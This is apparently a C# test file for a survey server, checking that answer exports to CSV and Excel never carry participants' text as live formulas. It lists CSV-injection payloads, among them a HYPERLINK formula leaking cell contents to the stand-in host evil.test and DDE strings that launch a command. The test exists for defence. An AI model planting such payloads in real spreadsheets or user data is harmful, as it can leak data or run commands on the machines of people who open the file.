using System.Net.Http.Json;
using ClosedXML.Excel;
using Foresight.Core.LongFormat;

namespace Foresight.Server.Tests;

/// <summary>Exports a person opens in a spreadsheet never carry an expert's text as a formula (CSV injection, issue 22).</summary>
public sealed class ExportSafetyTests : IDisposable
{
    readonly ForesightFactory _app = new();

    public void Dispose() => _app.Dispose();

    [Fact]
    public async Task Rationales_and_comments_that_look_like_formulas_are_exported_as_text()
    {
        var study = await QuickStudy.CreateAsync(_app, experts: 3,
            yaml: Api.Survey("quick-start.yaml").Replace("en: Quick foresight survey on quantum and AI technologies",
                "en: \"=HYPERLINK(\\\"http://evil.test\\\")\""));
        string[] attacks = ["=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
        for (int e = 0; e < 3; e++)
            await study.AnswerAsync(e, "Q-T01", QuickStudy.Answer(5 + e, rationale: attacks[e * 2]));
        await study.AnswerAsync(0, "Q-T02", new
        {
            answers = new Dictionary<string, object> { ["familiarity"] = 3, ["importance"] = 6, ["feasibility"] = 7, ["realization_year"] = 2035,
                ["comment"] = attacks[1] },
            rationales = new Dictionary<string, string> { ["importance"] = attacks[3], ["realization_year"] = attacks[5] },
        });
        await study.CloseAsync(1);

        var csv = await (await study.Coordinator.GetAsync($"{QuickStudy.S}/exports/answers.csv")).Content.ReadAsStringAsync();
        var cells = Csv.Read(new StringReader(csv)).SelectMany(r => r.Fields).ToList();
        var risky = cells.Where(Csv.RunsAsFormula).ToList();
        Assert.True(risky.Count == 0, "cells a spreadsheet would run: " + string.Join(" | ", risky));
        // Each attack is still there, as text, and numbers (negative ones too) stay numbers.
        // (The server may have trimmed a leading tab or carriage return off a rationale.)
        foreach (var attack in attacks)
            Assert.Contains(cells, c => c == "'" + attack || c == "'" + attack.Trim());
        Assert.Contains(cells, c => c == "2035");

        // The workbook holds text as text: no cell is a formula, whatever its text begins with.
        await study.Coordinator.PostOkAsync($"{QuickStudy.S}/reports/publish", new { kind = "round", round = 1, language = "en" });
        var bytes = await (await study.Coordinator.GetAsync($"{QuickStudy.S}/exports/consensus.xlsx")).Content.ReadAsByteArrayAsync();
        using var book = new XLWorkbook(new MemoryStream(bytes));
        Assert.Equal("=HYPERLINK(\"http://evil.test\")", book.Worksheet("About").Cell(1, 1).GetString());
        Assert.DoesNotContain(book.Worksheets.SelectMany(s => s.CellsUsed()), c => c.HasFormula);
    }
}
